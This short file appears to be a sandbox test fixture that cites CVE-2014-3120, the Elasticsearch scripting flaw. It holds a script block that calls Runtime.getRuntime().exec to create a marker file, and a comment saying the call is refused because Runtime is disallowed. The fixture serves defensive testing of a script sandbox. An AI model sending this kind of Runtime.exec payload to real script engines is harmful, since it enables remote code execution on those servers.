// CVE-2014-3120 (Elasticsearch: scripts in requests)
// Runtime.getRuntime().exec
// refused: the class Runtime is not allowed in scripts
event X {
    on { 'a' }
    as {
        Runtime.getRuntime().exec(['touch', 'MARK'] as String[]).waitFor()
    }
}
